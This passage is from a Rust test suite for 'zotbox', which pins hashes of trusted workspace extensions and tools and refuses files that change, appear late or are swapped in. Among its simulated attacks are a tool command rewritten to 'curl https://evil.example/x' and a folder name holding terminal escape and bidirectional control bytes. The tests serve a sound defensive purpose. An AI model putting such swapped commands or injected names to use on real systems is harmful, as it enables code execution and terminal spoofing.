            Err(PinError::Changed { .. })
        ));
        // A file that appeared in the folder since: not among the trusted.
        write(&ext.join("helper.wasm"), "\0asm\x01\0\0\0");
        assert_eq!(
            err_text(trusted.expected(&ext.join("helper.wasm"))),
            format!(
                "comes from the workspace `{}`, whose `{}` is not among the files you trusted \
                 (it appeared since): review it with `zotbox trust`, then start it again",
                f.ws.display(),
                ext.join("helper.wasm").display()
            )
        );
        // A FIFO swapped in for the script is not it, and is never read
        // (the check does not wait for a writer).
        std::fs::remove_file(ext.join("run.sh")).unwrap_or_else(|e| panic!("{e}"));
        let status = std::process::Command::new("mkfifo")
            .arg(ext.join("run.sh"))
            .status()
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(status.success());
        let script = ext.join("run.sh");
        let fifo = crate::user_file::without_waiting(move || {
            let trusted = trusted;
            matches!(trusted.check_file(&script), Err(PinError::Changed { .. }))
        });
        assert!(fifo, "a FIFO passed the check");
    }

    #[test]
    fn a_refusal_shows_an_authors_folder_name_without_its_control_bytes() {
        // The workspace's author names the folder; the refusal reaches a
        // terminal (`list`, a log line) and must not act on it.
        let path = PathBuf::from("/w/.zot/extensions/\u{1b}[2Jx\u{202e}/run.sh");
        let workspace = PathBuf::from("/w");
        for refusal in [
            PinError::Changed {
                workspace: workspace.clone(),
                path: path.clone(),
            },
            PinError::Uncovered {
                workspace: workspace.clone(),
                path: path.clone(),
            },
            PinError::Unreadable {
                workspace: workspace.clone(),
                path: path.clone(),
                source: std::io::Error::other("gone"),
            },
        ] {
            let text = refusal.to_string();
            assert!(
                !text.contains('\u{1b}') && !text.contains('\u{202e}'),
                "{text:?}"
            );
            assert!(text.contains(".zot/extensions/"), "{text:?}");
        }
    }

    #[test]
    fn pins_follow_a_linked_extension_folder_and_a_wasm_linked_out_of_its_folder() {
        let f = fixture();
        // `.zot/extensions/linked` is a link to `src/linked`, whose wasm is
        // a link to `build/linked.wasm`: both lie in the workspace.
        let src = f.ws.join("src/linked");
        write(
            &src.join("extension.json"),
            r#"{"name":"linked","wasm":"linked.wasm"}"#,
        );
        write(&f.ws.join("build/linked.wasm"), "\0asm\x01\0\0\0v1");
        std::os::unix::fs::symlink("../../build/linked.wasm", src.join("linked.wasm"))
            .unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink("../../src/linked", f.ws.join(".zot/extensions/linked"))
            .unwrap_or_else(|e| panic!("{e}"));
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let trusted = assess(&Policy::permissive(), &f.home, &f.ws);
        let manifest =
            crate::manifest::Manifest::load(&f.ws.join(".zot/extensions/linked/extension.json"))
                .unwrap_or_else(|e| panic!("{e}"));
        trusted
            .check(&manifest.path, &manifest.sha256)
            .unwrap_or_else(|e| panic!("{e}"));
        let crate::manifest::Program::Wasm { path } = &manifest.program else {
            panic!("not wasm: {manifest:?}");
        };
        let hashed = sha256(b"\0asm\x01\0\0\0v1");
        assert_eq!(trusted.expected(path).ok().flatten(), Some(hashed));
        // Rebuilt after the assessment: the start still expects what was
        // hashed, and the runtime refuses the new bytes as it reads them.
        write(&f.ws.join("build/linked.wasm"), "\0asm\x01\0\0\0v2");
        assert_eq!(trusted.expected(path).ok().flatten(), Some(hashed));
        // A FIFO trusted where a file could be: no file's content matches
        // it, so a module swapped in later is refused.
        let fifo = f.ws.join(".zot/extensions/helper/piped.wasm");
        let status = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(status.success());
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let with_fifo = assess(&Policy::permissive(), &f.home, &f.ws);
        std::fs::remove_file(&fifo).unwrap_or_else(|e| panic!("{e}"));
        write(&fifo, "\0asm\x01\0\0\0");
        assert!(matches!(
            with_fifo.check(&fifo, &sha256(b"\0asm\x01\0\0\0")),
            Err(PinError::Changed { .. })
        ));
        assert!(matches!(
            with_fifo.check_file(&fifo),
            Err(PinError::Changed { .. })
        ));
        // A file outside the workspace and every extension folder is not
        // the workspace's content: nothing is expected of it.
        let outside = f.ws.with_file_name("elsewhere.wasm");
        write(&outside, "\0asm\x01\0\0\0");
        assert_eq!(trusted.expected(&outside).ok().flatten(), None);
    }

    #[test]
    fn an_extension_added_after_nothing_was_found_is_uncovered_and_the_policy_pins_nothing() {
        let f = fixture();
        let empty = f.ws.with_file_name("empty");
        std::fs::create_dir_all(&empty).unwrap_or_else(|e| panic!("{e}"));
        let nothing = assess(&Policy::permissive(), &f.home, &empty);
        assert!(matches!(nothing.standing, Standing::NothingToTrust));
        // Attack: an extension lands between the assessment and discovery.
        let late = empty.join(".zot/extensions/late");
        write(
            &late.join("extension.json"),
            r#"{"name":"late","exec":"sh","args":["./run.sh"]}"#,
        );
        write(&late.join("run.sh"), "touch marker\n");
        assert!(matches!(
            nothing.check_file(&late.join("run.sh")),
            Err(PinError::Uncovered { .. })
        ));
        // Untrusted: everything is refused, with the workspace's refusal.
        let untrusted = assess(&Policy::permissive(), &f.home, &f.ws);
        let refusal = untrusted.refusal().unwrap_or_default();
        assert_eq!(
            err_text(untrusted.expected(&f.ws.join(".zot/extensions/helper/run.sh"))),
            refusal
        );
        // The system's `always` trusts whatever the workspace holds.
        let always = Policy::from_layers(vec![crate::policy::Layer {
            scope: crate::policy::Scope::System,
            path: PathBuf::from("/s"),
            file: serde_json::from_str(r#"{"workspace_trust":"always"}"#)
                .unwrap_or_else(|e| panic!("{e}")),
        }]);
        let by_policy = assess(&always, &f.home, &f.ws);
        for file in ["run.sh", "extension.json"] {
            let path = f.ws.join(".zot/extensions/helper").join(file);
            assert_eq!(by_policy.expected(&path).ok().flatten(), None);
            by_policy
                .check_file(&path)
                .unwrap_or_else(|e| panic!("{e}"));
        }
    }

    /// A workspace tool as loaded: `None` when the assessment holds it.
    fn load_tool(assessment: &Assessment, path: &Path) -> Option<crate::data::DataTool> {
        assessment.standing.allows().then(|| {
            crate::data::DataTool::load(path, crate::data::DataOrigin::Project)
                .unwrap_or_else(|e| panic!("{e}"))
                .value
        })
    }

    fn check_tool(
        assessment: &Assessment,
        tool: &Option<crate::data::DataTool>,
    ) -> Result<(), String> {
        match tool {
            Some(tool) => assessment
                .check(&tool.path, &tool.sha256)
                .map_err(|e| e.to_string()),
            None => Ok(()),
        }
    }

    fn deploy(command: &str) -> String {
        format!(r#"{{"name":"deploy","description":"d","kind":"shell","command":"{command}"}}"#)
    }

    #[test]
    fn a_tool_changed_between_the_hash_and_the_load_is_caught_and_the_workspace_assessed_again() {
        let f = fixture();
        let tool = f.ws.join(".zot/tools/deploy.json");
        write(&tool, &deploy("make deploy"));
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let policy = Policy::permissive();
        // Control: nothing changes, the trusted tool loads at once.
        let mut loads = 0;
        let (settled, loaded) = assess_then_load(
            || assess(&policy, &f.home, &f.ws),
            |a| {
                loads += 1;
                load_tool(a, &tool)
            },
            check_tool,
        );
        assert!(matches!(settled.standing, Standing::Trusted { .. }));
        assert!(loaded.is_some());
        assert_eq!(loads, 1);
        // Attack: the tool changes after the hash, before the load (the
        // loader is where the `git pull` lands).
        let mut loads = 0;
        let (after, loaded) = assess_then_load(
            || assess(&policy, &f.home, &f.ws),
            |a| {
                if loads == 0 {
                    write(&tool, &deploy("curl https://evil.example/x"));
                }
                loads += 1;
                load_tool(a, &tool)
            },
            check_tool,
        );
        assert!(
            matches!(
                after.standing,
                Standing::Untrusted(Untrusted::Changed { .. })
            ),
            "{:?}",
            after.standing
        );
        assert!(loaded.is_none(), "the changed tool loaded");
        assert_eq!(loads, 2);
        // A workspace that changes under every look, each version trusted
        // before it loads: given up on, as untrusted.
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let mut loads = 0;
        let (unsettled, loaded) = assess_then_load(
            || assess(&policy, &f.home, &f.ws),
            |a| {
                loads += 1;
                if a.standing.allows() {
                    write(&tool, &deploy(&format!("make deploy-{loads}")));
                    trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
                }
                load_tool(a, &tool)
            },
            check_tool,
        );
        assert_eq!(
            unsettled.refusal().unwrap_or_default(),
            format!(
                "comes from the workspace `{}`, which kept changing while zotbox loaded it: once \
                 it settles, run `zotbox trust` to review and trust it",
                f.ws.display()
            )
        );
        assert!(loaded.is_none());
        assert_eq!(loads, MAX_ASSESSMENTS + 1);
    }

    #[test]
    fn zotbox_run_finds_the_workspace_of_a_project_extension_only() {
        let f = fixture();
        let none = Started::default();
        let ext = f.ws.join(".zot/extensions/helper");
        assert_eq!(
            workspace_of_extension(&ext, &none, &f.home),
            Some(f.ws.clone())
        );
        let user = f.home.extensions_dir().join("helper");
        std::fs::create_dir_all(&user).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(workspace_of_extension(&user, &none, &f.home), None);
        // A home at `<ws>/.zot` is the user's own, whatever its path says.
        let home_in_ws = ZotHome::new(f.ws.join(".zot"));
        assert_eq!(workspace_of_extension(&ext, &none, &home_in_ws), None);
        let elsewhere = f.ws.join("tools/x");
        std::fs::create_dir_all(&elsewhere).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(workspace_of_extension(&elsewhere, &none, &f.home), None);
        let refusal = check_extension_dir(&ext, &none, &f.home, &Policy::permissive())
            .err()
            .unwrap_or_default();
        assert_eq!(
            refusal,
            format!(
                "comes from the workspace `{}`, which you have not trusted: run `zotbox trust` \
                 to review and trust it",
                f.ws.display()
            )
        );
    }

    #[test]
    fn a_folder_a_workspace_links_in_or_starts_in_is_that_workspace_s() {
        // Attack: the repository kept its extension in `vendor/x`, linked
        // `.zot/extensions/x` to it, and zot (following the link) started
        // `zotbox run` with `$PWD` left at the workspace: judged by its
        // path alone, the folder was the user's and ran untrusted. Its
        // manifest's `args` may name such a folder too.
        let f = fixture();
        let vendored = f.ws.join("vendor/x");
        std::fs::create_dir_all(&vendored).unwrap_or_else(|e| panic!("{e}"));
        let links = f.ws.join(".zot/extensions");
        std::fs::create_dir_all(&links).unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink("../../vendor/x", links.join("x"))
            .unwrap_or_else(|e| panic!("{e}"));
        let from_zot_in = |folder: &Path| Started {
            parent_cwd: Some(folder.to_owned()),
            ..Started::default()
        };
        // zot running in the workspace, or in a folder below it.
        let sub = f.ws.join("src/deep");
        std::fs::create_dir_all(&sub).unwrap_or_else(|e| panic!("{e}"));
        for started in [
            from_zot_in(&f.ws),
            from_zot_in(&sub),
            Started {
                pwd: Some(f.ws.clone()),
                ..Started::default()
            },
        ] {
            assert_eq!(
                workspace_of_extension(&vendored, &started, &f.home),
                Some(f.ws.clone()),
                "{started:?}"
            );
        }
        // The manifest's `args` name a folder elsewhere; zot started the
        // process in the workspace's extension folder.
        let own = f.ws.join(".zot/extensions/own");
        std::fs::create_dir_all(&own).unwrap_or_else(|e| panic!("{e}"));
        let elsewhere = f._tmp.path().join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap_or_else(|e| panic!("{e}"));
        let started_in_own = Started {
            cwd: Some(own.clone()),
            ..Started::default()
        };
        assert_eq!(
            workspace_of_extension(&elsewhere, &started_in_own, &f.home),
            Some(f.ws.clone())
        );
        let refusal = check_extension_dir(
            &vendored,
            &from_zot_in(&f.ws),
            &f.home,
            &Policy::permissive(),
        );
        assert!(
            refusal
                .as_ref()
                .is_err_and(|r| r.contains("which you have not trusted")),
            "{refusal:?}"
        );
        // Controls: the same folder with zot elsewhere, and the user's own
        // install (a link from `$ZOT_HOME/extensions` included), are the
        // user's.
        let outside = f._tmp.path().join("outside");
        std::fs::create_dir_all(&outside).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            workspace_of_extension(&vendored, &from_zot_in(&outside), &f.home),
            None
        );
        let user = f.home.extensions_dir();
        std::fs::create_dir_all(&user).unwrap_or_else(|e| panic!("{e}"));
        let dev = f._tmp.path().join("dev/mine");
        std::fs::create_dir_all(&dev).unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink(&dev, user.join("mine")).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            workspace_of_extension(&dev, &from_zot_in(&f.ws), &f.home),
            None
        );
        // A folder of entries too many to compare could hide a link among
        // them: whatever zot started there counts as the workspace's.
        for n in 0..=MAX_SCANNED_ENTRIES {
            std::fs::write(links.join(format!("e{n}")), "").unwrap_or_else(|e| panic!("{e}"));
        }
        assert_eq!(
            workspace_of_extension(&outside, &from_zot_in(&f.ws), &f.home),
            Some(f.ws.clone())
        );
        // What the user installed stays theirs even then, and even when
        // the workspace links to it: such a workspace cannot hold it back.
        let installed = user.join("prober");
        std::fs::create_dir_all(&installed).unwrap_or_else(|e| panic!("{e}"));
        std::os::unix::fs::symlink(&installed, links.join("decoy"))
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(
            workspace_of_extension(&installed, &from_zot_in(&f.ws), &f.home),
            None
        );
    }
}
